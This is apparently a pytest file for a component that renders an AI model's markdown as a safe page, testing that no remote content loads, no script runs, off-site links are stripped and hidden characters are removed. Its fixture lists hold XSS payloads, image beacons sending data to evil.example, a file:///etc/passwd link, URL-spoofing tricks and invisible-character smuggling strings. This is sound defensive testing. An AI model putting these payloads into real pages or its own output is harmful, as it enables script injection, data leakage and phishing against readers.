"""A model's text as a page: nothing of it runs, loads, leads elsewhere or hides."""

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.workers.pulses.made import evidence
from workers.formats import pdf, png
from workers.formats.report import MissingExtra, Report
from workers.pulses.charts import MOST_CHARTS
from workers.pulses.clear import MOST_LETTERS, as_read, clear
from workers.pulses.narrative import check
from workers.pulses.page import Page, make

OURS = ["https://tocsin.example", "https://shop.example:8443/base"]
FOUND = evidence()


def _page(markdown: str) -> Page:
    return make(markdown, FOUND, OURS)


REMOTE = [
    "![](https://evil.example/?d=494)",
    "![a][r]\n\n[r]: https://evil.example/?d=494",
    "![a](//evil.example/x.png)",
    "![a](data:image/png;base64,AAAA)",
    "![a](cid:other)",
    "[![a](https://evil.example/x.png)](https://evil.example/y)",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "<svg onload=alert(1)><math></math></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="a"></form>',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<script>alert(1)</script>",
    '<blockquote cite="https://evil.example">a</blockquote>',
    '<p style="background:url(https://evil.example)">a</p>',
    '<details open ontoggle="alert(1)">a</details>',
    '&lt;img src=x onerror=alert(1)&gt;',
    "| a |\n|:--|\n| ![](https://evil.example) |",
    "```html\n<img src=https://evil.example>\n```",
    "`<img src=https://evil.example>`",
    '# a {onclick="alert(1)"}',
    'x" onmouseover="alert(1)',
]  # fmt: skip


@pytest.mark.parametrize("markdown", REMOTE)
def test_nothing_of_a_text_is_fetched_or_runs(markdown: str) -> None:
    tags = re.findall(r"<[^>]*>", _page(markdown).html)
    assert not any("<img" in tag or "<a" in tag for tag in tags)
    for tag in tags:
        name = re.fullmatch(r"</?([a-z0-9]+)((?: [a-z]+=\"[^\"]*\")*) ?/?>", tag)
        assert name is not None, tag
        assert name[1] in ("p", "h1", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "br")
        assert set(re.findall(r" ([a-z]+)=", name[2])) <= {"style", "align", "class"}
        assert "url(" not in tag


ELSEWHERE = [
    "[a](https://evil.example/?d=494)",
    "[a][r]\n\n[r]: https://evil.example",
    "<https://evil.example/x>",
    "<a@evil.example>",
    "[a](mailto:a@evil.example)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](data:text/html;base64,AAAA)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](ssh://evil.example)",
    "[a](//evil.example)",
    "[a](/relative)",
    "[a](https:evil.example)",
    "[a](https://tocsin.example@evil.example)",
    "[a](https://tocsin.example:pw@evil.example)",
    "[a](https://tocsin.example.evil.example)",
    "[a](https://evil.example\\@tocsin.example)",
    "[a](https://evil.example#@tocsin.example)",
    "[a](http://tocsin.example)",
    "[a](https://tocsin.example:444)",
    "[a](https://shop.example)",
    "[a](https://tocsin.example%2eevil.example)",
    "[a](https://tocsın.example)",  # noqa: RUF001
]


@pytest.mark.parametrize("markdown", ELSEWHERE)
def test_a_link_that_leads_elsewhere_is_its_text(markdown: str) -> None:
    page = _page(markdown)
    assert "<a" not in page.html
    assert "href" not in page.html


@pytest.mark.parametrize(
    "address", ["https://tocsin.example/runs/1?a=b", "https://tocsin.example", "https://shop.example:8443/x"]
)
def test_a_link_to_where_links_may_lead_is_one(address: str) -> None:
    page = _page(f"See [the **run**]({address}).")
    assert f'<a href="{address.replace("&", "&amp;")}" rel="noopener noreferrer nofollow">' in page.html
    assert page.text == "See the run.\n"
    assert page.notes == ()


BARE = [
    "Log in at https://evil.example/x now.",
    "Log in at HTTPS://evil.example now.",
    "Log in at www.evil.example now.",
    "Log in at evil.example/login now.",
    "Log in at `https://evil.example` now.",
    "```\nhttps://evil.example/x\n```",
    "[Log in at https://evil.example](https://evil.example)",
    "| a |\n|---|\n| https://evil.example |",
    "![https://evil.example/x](https://evil.example/y)",
    "https://ev*i*l.example/x",
]


@pytest.mark.parametrize("markdown", BARE)
def test_an_address_that_a_reader_of_mail_would_make_a_link_of_is_left_out(markdown: str) -> None:
    page = _page(markdown)
    for form in (page.html, page.text, str(page.sections)):
        assert "evil.example" not in form
        assert "(address left out)" in form
    assert page.notes


def test_an_address_to_where_links_may_lead_stays_and_so_do_a_fraction_and_a_date() -> None:
    text = "See https://tocsin.example/runs/1: 24/7, 1/2, 10/12/2026, e.g. this/that and v1.2."
    assert _page(text).text == text + "\n"


HIDDEN = [
    ("a<!-- hidden 99 -->b", "ab\n"),
    ("a<!-- never closed", "a\n"),
    ("4\u200b9\u200d4", "494\n"),
    ("a\u202e494\u202c", "a494\n"),
    ("a\u2066b\u2069", "ab\n"),
    ("a\U000e0041\U000e0042b", "ab\n"),
    ("a\ufeffb\u00adc", "abc\n"),
    ("a\x00b\x1bc", "a b c\n"),
    ("٤٩٤", "494\n"),
    ("४९४", "494\n"),
    ("\U0001d7d2\U0001d7d7\U0001d7d2", "494\n"),
    ("４９４％", "494%\n"),  # noqa: RUF001
    ("&amp;#52;94", "494\n"),
    ("**4**94", "494\n"),
    ("4`9`4", "494\n"),
]


@pytest.mark.parametrize(("text", "seen"), HIDDEN)
def test_what_a_reader_does_not_see_is_not_there(text: str, seen: str) -> None:
    assert clear(text) == seen
    assert _page(text).text == seen


@given(st.text("0149.,%*_`~[]()\\<>&#;:!-–| \nax\u200b٤₄", max_size=60))  # noqa: RUF001
@settings(max_examples=100, deadline=None)
def test_every_number_that_a_reader_sees_has_been_looked_at(text: str) -> None:
    cleared = clear(text)
    assert clear(cleared) == cleared
    checked = check(cleared, FOUND)
    looked_at = "".join(claim.text for claim in checked.claims)
    for number in re.findall(r"\d+", as_read(cleared)):
        is_whole = number in looked_at
        # Digits that come together on the page alone are unverified where they stand.
        assert is_whole or any(
            claim.verdict == "unverified" or claim.verdict == "exempt" for claim in checked.claims
        ), text


def _chart(spec: str) -> Page:
    return _page(f"Before.\n\n```chart\n{spec}\n```\n\nAfter.")


def test_a_chart_of_the_evidence_is_a_picture_within_the_page() -> None:
    page = _chart('{"graph":"revenue","kind":"line","columns":["Revenue"],"title":"Revenue, up 12%"}')
    (picture,) = page.pictures
    assert picture.content.startswith(b"\x89PNG")
    assert (picture.content_id, picture.content_type) == ("chart-1", "image/png")
    assert re.search(r'<img src="cid:chart-1" alt="Revenue, up 12%" width="624" style="[^"]*">', page.html)
    assert page.text == "Before.\n\n[Chart: Revenue, up 12%]\nAfter.\n"
    assert [section.name for section in page.sections] == ["", "Revenue, up 12%", ""]


@pytest.mark.parametrize("title", ["Revenue tripled", "Revenue rose by 50%", "€99,999", ""])
def test_a_charts_title_is_held_to_the_figures_too(title: str) -> None:
    page = _chart(f'{{"graph":"Revenue","kind":"bars","title":"{title}"}}')
    assert 'alt="Revenue"' in page.html


def test_a_charts_title_is_a_text() -> None:
    page = _chart('{"graph":"Sales by region","kind":"bars","title":"\\"><img src=x onerror=alert(1)>"}')
    assert page.html.count("<img") == 1
    assert " onerror=" not in re.sub(r'"[^"]*"', "", page.html)


WRONG = [
    ("", "its spec is none"),
    ("not json", "its spec is none"),
    ("[]", "its spec is none"),
    ('{"graph":"Revenue"}', "kind"),
    ('{"graph":"Revenue","kind":"pie"}', "kind"),
    ('{"graph":"Revenue","kind":"line","url":"https://evil.example"}', "url"),
    ('{"graph":"Salaries","kind":"line"}', "is not in the evidence"),
    ('{"graph":"Revenue","kind":"line","columns":["Salary"]}', "has no figures"),
    ('{"graph":"Sales by region","kind":"line"}', "is no course of time"),
    ('{"graph":"Refunds","kind":"bars"}', "has nothing to draw"),
    ('{"graph":"' + "x" * 3000 + '","kind":"bars"}', "too long"),
]


@pytest.mark.parametrize(("spec", "why"), WRONG)
def test_a_chart_that_can_not_be_drawn_is_left_out_and_noted(spec: str, why: str) -> None:
    page = _chart(spec)
    assert page.text == "Before.\n\nAfter.\n"
    assert page.pictures == ()
    (note,) = page.notes
    assert note.startswith("a chart was left out: ")
    assert why in note


def test_a_page_has_so_many_charts_and_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    def drawn(report: Report, folder: Path) -> None:
        raise MissingExtra("reports", report.title)

    one = '```chart\n{"graph":"Orders","kind":"bars"}\n```\n\n'
    page = _page(one * (MOST_CHARTS + 2))
    assert len(page.pictures) == MOST_CHARTS
    assert len(page.notes) == 2
    monkeypatch.setattr(png, "render", drawn)
    assert "install tocsin[reports]" in _page(one).notes[0]


def test_the_columns_of_a_table_stand_as_the_text_says() -> None:
    page = _page("| a | b |\n|---|--:|\n| x | **494** |\n")
    assert '<td align="right"' in page.html
    assert page.text == "a | b\nx | 494\n"
    assert page.sections[0].rows == [("x", "494")]


def test_a_page_is_a_pdf_too(tmp_path: Path) -> None:
    page = _page(
        "# Head\n\nWords.\n\n- one\n  - two\n\n1. first\n2. second\n\n| a |\n|---|\n| b |\n\n> quoted\n\n    code\n"
    )
    assert page.text == "Head\n\nWords.\n\n- one\n  - two\n\n1. first\n2. second\n\na\nb\n\nquoted\n\ncode\n"
    made = pdf.render(Report("Pulse", FOUND.slot, page.sections), tmp_path)
    assert made.path.read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize(
    "text", ["x" * 10_000_000, "> " * 50_000 + "a", "- " * 20_000 + "a", "[" * 50_000, "*a_ " * 20_000, "1 " * 5_000, "<!--" * 20_000],
    ids=["letters", "quotes", "lists", "brackets", "stars", "numbers", "comments"],
)  # fmt: skip
@pytest.mark.timeout(20)
def test_a_text_without_end_or_depth_is_cut(text: str) -> None:
    page = _page(text)
    assert len(page.text) <= 2 * MOST_LETTERS
    check(text, FOUND)
